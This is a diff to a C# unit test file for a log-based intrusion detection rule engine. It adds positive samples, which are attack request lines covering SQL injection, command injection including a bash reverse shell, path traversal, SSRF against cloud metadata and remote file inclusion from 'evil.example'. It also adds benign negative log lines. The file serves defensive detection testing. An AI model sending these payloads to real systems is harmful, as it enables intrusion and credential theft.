@@ -61,6 +61,25 @@ public sealed class RuleEngineTests
         { "LG-IO-001", "worker-3: failed to write response body to client stream: EOF" },
         { "LG-WEB-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET /.env HTTP/1.1\" 404 1 \"-\" \"curl/8.5.0\"" },
         { "LG-WEB-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"POST /wp-login.php HTTP/1.1\" 200 1 \"-\" \"curl/8.5.0\"" },
+        { "LG-WEB-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET /actuator/heapdump HTTP/1.1\" 200 1 \"-\" \"curl/8.5.0\"" },
+        { "LG-WEB-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET /debug/pprof/goroutine HTTP/1.1\" 404 1 \"-\" \"curl/8.5.0\"" },
+        { "LG-SQLI-001", "GET /item?id=1%0aUNION%0aSELECT%20password%20FROM%20users HTTP/1.1" },
+        { "LG-SQLI-001", "GET /item?id=1;select name from sysobjects HTTP/1.1" },
+        { "LG-SQLI-001", "GET /item?id=char(97,100,109,105,110) HTTP/1.1" },
+        { "LG-CMDI-001", "GET /ping?host=8.8.8.8%0aps%20aux HTTP/1.1" },
+        { "LG-PATH-001", "GET /view?file=/proc/version HTTP/1.1" },
+        { "LG-PATH-001", "GET /read?path=c:\\windows\\system32\\drivers\\etc\\hosts HTTP/1.1" },
+        { "LG-PATH-002", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET /files/../config.php HTTP/1.1\" 404 1 \"-\" \"curl/8.5.0\"" },
+        { "LG-PATH-002", "GET /download?file=....//....//app/config HTTP/1.1" },
+        { "LG-SSRF-001", "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam HTTP/1.1" },
+        { "LG-SSRF-001", "GET /proxy?target=http%3A%2F%2F2130706433%2Fadmin HTTP/1.1" },
+        { "LG-SSRF-001", "POST /webhook {\"callback\": \"gopher://10.0.0.5:6379/_INFO\"}" },
+        { "LG-RFI-001", "GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1" },
+        { "LG-RFI-001", "GET /index.php?inc=http://evil.example/shell.txt? HTTP/1.1" },
+        { "LG-RFI-001", "GET /view?file=/proc/self/environ HTTP/1.1" },
+        { "LG-CMDI-001", "GET /ping?host=127.0.0.1;cat${IFS}/etc/passwd HTTP/1.1" },
+        { "LG-CMDI-001", "GET /run?cmd=bash+-i+>%26+/dev/tcp/10.0.0.1/4444+0>%261 HTTP/1.1" },
+        { "LG-CMDI-001", "GET /ping?ip=1.1.1.1%26ipconfig HTTP/1.1" },
     };
 
     public static readonly TheoryData<string, string> Negatives = new()
@@ -80,6 +99,8 @@ public sealed class RuleEngineTests
         { "LG-SQLI-001", "LOG: statement: SELECT * FROM orders WHERE id = 5" },
         { "LG-XSS-001", "GET /blog/writing-a-script-for-alerts HTTP/1.1" },
         { "LG-PATH-001", "GET /static/app.js HTTP/1.1" },
+        { "LG-PATH-001", "2016-09-28 04:30:31, Info CBS Loaded Servicing Stack v6.1.7601.23505 with Core: C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack\\cbscore.dll" },
+        { "LG-SQLI-001", "LOG:  statement: SELECT id, name FROM products WHERE category = 'garden' ORDER BY name" },
         { "LG-CMDI-001", "GET /cart?filter=classic&id=c1fbf5270396&sort=asc HTTP/1.1" },
         { "LG-CMDI-001", "GET /docs/shell-scripting HTTP/1.1" },
         { "LG-SSTI-001", "config loaded from ${HOME}/app.yaml" },
@@ -89,6 +110,12 @@ public sealed class RuleEngineTests
         { "LG-IO-001", "sshd[25457]: fatal: Write failed: Connection reset by peer [preauth]" },
         { "LG-IO-001", "INFO reading 120 records from stream orders-events" },
         { "LG-WEB-001", "GET /environment/settings HTTP/1.1" },
+        { "LG-WEB-001", "10.0.0.1 - - [04/Mar/2026:10:01:02 +0000] \"GET /actuator/health HTTP/1.1\" 200 15 \"-\" \"kube-probe/1.29\"" },
+        { "LG-PATH-002", "2026-03-04 INFO build: copying ../shared/lib into output" },
+        { "LG-SSRF-001", "Started server at http://localhost:4040" },
+        { "LG-SSRF-001", "I/ActivityManager: uri=file:///sdcard/Download/report.pdf" },
+        { "LG-RFI-001", "GET /redirect?next=https://shop.example/cart HTTP/1.1" },
+        { "LG-CMDI-001", "GET /download?ver=2&lang=en HTTP/1.1" },
     };
 
     [Theory]
